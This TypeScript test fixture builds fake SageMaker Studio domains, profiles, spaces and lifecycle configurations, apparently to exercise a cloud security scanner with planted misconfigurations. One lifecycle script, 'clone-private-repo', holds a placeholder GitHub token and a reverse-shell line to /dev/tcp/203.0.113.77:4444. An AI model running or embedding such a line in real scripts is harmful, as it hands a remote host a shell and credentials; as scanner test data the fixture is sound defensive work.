import type { Rec } from '../estates/estate.ts'
import {
  ACCOUNT,
  base64,
  EU,
  FAKE,
  HOSTILE,
  keyArn,
  NET,
  roleArn,
  smArn,
  type Times,
  tags,
  US,
} from './company.ts'

const idle = (minutes: number): Rec => ({
  AppLifecycleManagement: {
    IdleSettings: { LifecycleManagement: 'ENABLED', IdleTimeoutInMinutes: minutes },
  },
})

const domain = (region: string, id: string, name: string, t: Times, over: Rec): Rec => ({
  DomainArn: smArn(region, `domain/${id}`),
  DomainId: id,
  DomainName: name,
  HomeEfsFileSystemId: 'fs-0a1b2c3d4e5f60718',
  Status: 'InService',
  CreationTime: t.days(420),
  LastModifiedTime: t.days(21),
  AuthMode: 'SSO',
  AppNetworkAccessType: 'VpcOnly',
  SubnetIds: [NET.prodA, NET.prodB],
  VpcId: NET.vpcProd,
  KmsKeyId: keyArn('data'),
  Url: `https://${id}.studio.${region}.sagemaker.aws`,
  DefaultUserSettings: {
    ExecutionRole: roleArn('studio-risk-default'),
    SecurityGroups: [NET.sgProd],
    SharingSettings: { NotebookOutputOption: 'Disabled' },
    JupyterLabAppSettings: idle(60),
    CodeEditorAppSettings: idle(60),
    StudioWebPortalSettings: { ExecutionRoleSessionNameMode: 'USER_IDENTITY' },
  },
  DomainSettings: {
    ExecutionRoleIdentityConfig: 'USER_PROFILE_NAME',
    DockerSettings: { EnableDockerAccess: 'DISABLED' },
  },
  ...over,
})

const LAB = 'd-lab7q2wkzx1p'
const RISK = 'd-risk4m9vth8c'
const MARKETING = 'd-mktg3b6nrs5y'
const CREDIT = 'd-cred7t2jwq5a'
const UNIFIED = 'd-unif8x1cdf2k'

const domains = (region: string, t: Times): Rec[] =>
  region === EU
    ? [
        domain(EU, RISK, 'risk-and-fraud', t, {
          Tags: tags({ team: 'risk', owner: 'ml-platform', 'data-class': 'confidential' }),
        }),
        domain(EU, LAB, 'ml-lab', t, {
          AuthMode: 'IAM',
          AppNetworkAccessType: 'PublicInternetOnly',
          SubnetIds: [NET.labPublic],
          VpcId: NET.vpcLab,
          KmsKeyId: undefined,
          DefaultUserSettings: {
            ExecutionRole: roleArn('AmazonSageMaker-ExecutionRole-20240311T101532', '/service-role/'),
            SharingSettings: {
              NotebookOutputOption: 'Allowed',
              S3OutputPath: `s3://sagemaker-eu-west-1-${ACCOUNT}/sharing`,
            },
          },
          DomainSettings: { DockerSettings: { EnableDockerAccess: 'ENABLED' } },
        }),
        domain(EU, CREDIT, 'credit-models', t, { Tags: tags({ team: 'credit' }) }),
        domain(EU, UNIFIED, 'unified-analytics', t, {
          VpcId: undefined,
          SubnetIds: undefined,
          DomainSettings: {
            UnifiedStudioSettings: {
              DomainId: 'dzd_4kx9q2w7p1m',
              DomainAccountId: ACCOUNT,
              DomainRegion: EU,
            },
            ExecutionRoleIdentityConfig: 'USER_PROFILE_NAME',
          },
          Tags: tags({ AmazonDataZoneProject: '5mz0c3h8r2' }),
        }),
      ]
    : [
        domain(US, MARKETING, 'marketing-science', t, {
          SubnetIds: [NET.usA, NET.usB],
          VpcId: NET.vpcUs,
          KmsKeyId: keyArn('us', US),
          DefaultUserSettings: {
            ExecutionRole: roleArn('us-marketing-exec'),
            SecurityGroups: [NET.sgUs],
            JupyterLabAppSettings: idle(480),
          },
          DomainSettings: {
            DockerSettings: {
              EnableDockerAccess: 'ENABLED',
              RootlessDocker: 'ENABLED',
              VpcOnlyTrustedAccounts: [ACCOUNT],
            },
          },
          Tags: tags({ team: 'marketing', note: HOSTILE.rtl }),
        }),
      ]

const profile = (region: string, id: string, name: string, t: Times, settings: Rec): Rec => ({
  DomainId: id,
  UserProfileArn: smArn(region, `user-profile/${id}/${name}`),
  UserProfileName: name,
  HomeEfsFileSystemUid: '200005',
  Status: 'InService',
  CreationTime: t.days(300),
  LastModifiedTime: t.days(30),
  UserSettings: settings,
})

const profiles = (region: string, t: Times): Rec[] => {
  if (region === US)
    return [
      profile(US, MARKETING, 'hana', t, { JupyterLabAppSettings: idle(90) }),
      profile(US, MARKETING, 'ivan', t, {}),
    ]
  const shared = {
    ExecutionRole: roleArn('AmazonSageMaker-ExecutionRole-20240311T101532', '/service-role/'),
    SharingSettings: { NotebookOutputOption: 'Allowed' },
  }
  const own = (name: string): Rec => ({
    ExecutionRole: roleArn(`studio-risk-${name}`),
    SharingSettings: { NotebookOutputOption: 'Disabled' },
    JupyterLabAppSettings: idle(60),
  })
  return [
    profile(EU, RISK, 'alice', t, own('alice')),
    profile(EU, RISK, 'bob', t, own('bob')),
    profile(EU, CREDIT, 'carol', t, own('default')),
    { ...profile(EU, LAB, 'grace', t, shared), Tags: tags({ 'sagewarden:owner': 'grace.lab' }) },
    profile(EU, LAB, 'intern-1', t, shared),
    profile(EU, LAB, 'intern-2', t, { ...shared, JupyterLabAppSettings: idle(600) }),
  ]
}

const space = (region: string, id: string, name: string, owner: string, t: Times, settings: Rec): Rec => ({
  DomainId: id,
  SpaceArn: smArn(region, `space/${id}/${name}`),
  SpaceName: name,
  SpaceDisplayName: name,
  Status: 'InService',
  CreationTime: t.days(120),
  LastModifiedTime: t.days(9),
  SpaceSettings: {
    AppType: 'JupyterLab',
    SpaceStorageSettings: { EbsStorageSettings: { EbsVolumeSizeInGb: 20 } },
    ...settings,
  },
  OwnershipSettings: { OwnerUserProfileName: owner },
  SpaceSharingSettings: { SharingType: 'Private' },
  Url: `https://${id}.studio.${region}.sagemaker.aws/jupyterlab/${name}`,
})

const spaceIdle = (minutes: number): Rec => ({
  AppLifecycleManagement: { IdleSettings: { IdleTimeoutInMinutes: minutes } },
})

const spaces = (region: string, t: Times): Rec[] =>
  region === EU
    ? [
        space(EU, RISK, 'alice-fraud-graphs', 'alice', t, {
          RemoteAccess: 'DISABLED',
          JupyterLabAppSettings: spaceIdle(60),
        }),
        space(EU, RISK, 'bob-remote-ide', 'bob', t, { RemoteAccess: 'ENABLED', AppType: 'CodeEditor' }),
        space(EU, CREDIT, 'limits-review', 'carol', t, { RemoteAccess: 'DISABLED' }),
        space(EU, LAB, 'grace-scratch', 'grace', t, { JupyterLabAppSettings: spaceIdle(1_440) }),
      ]
    : [space(US, MARKETING, 'hana-uplift', 'hana', t, { RemoteAccess: 'ENABLED' })]

const app = (region: string, id: string, profileName: string, t: Times): Rec => ({
  AppArn: smArn(region, `app/${id}/${profileName}/jupyterserver/default`),
  AppType: 'JupyterServer',
  AppName: 'default',
  DomainId: id,
  UserProfileName: profileName,
  Status: 'InService',
  LastHealthCheckTimestamp: t.hours(1),
  LastUserActivityTimestamp: t.days(11),
  CreationTime: t.days(12),
  ResourceSpec: { InstanceType: 'system' },
})

const lifecycle = (region: string, name: string, t: Times, script: string): Rec => ({
  StudioLifecycleConfigArn: smArn(region, `studio-lifecycle-config/${name}`),
  StudioLifecycleConfigName: name,
  CreationTime: t.days(210),
  LastModifiedTime: t.days(210),
  StudioLifecycleConfigContent: base64(script),
  StudioLifecycleConfigAppType: 'JupyterLab',
})

/** Studio: domains, profiles, spaces, apps and lifecycle configurations of one Region. */
export const studio = (region: string, t: Times): Record<string, Rec[]> => ({
  Domain: domains(region, t),
  UserProfile: profiles(region, t),
  Space: spaces(region, t),
  App: region === EU ? [app(EU, LAB, 'grace', t)] : [app(US, MARKETING, 'hana', t)],
  StudioLifecycleConfig:
    region === EU
      ? [
          lifecycle(EU, 'auto-shutdown-kernels', t, '#!/bin/bash\njupyter server list\n'),
          lifecycle(
            EU,
            'clone-private-repo',
            t,
            `#!/bin/bash\nexport GITHUB_TOKEN=${FAKE.token}\nbash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n`,
          ),
        ]
      : [],
})
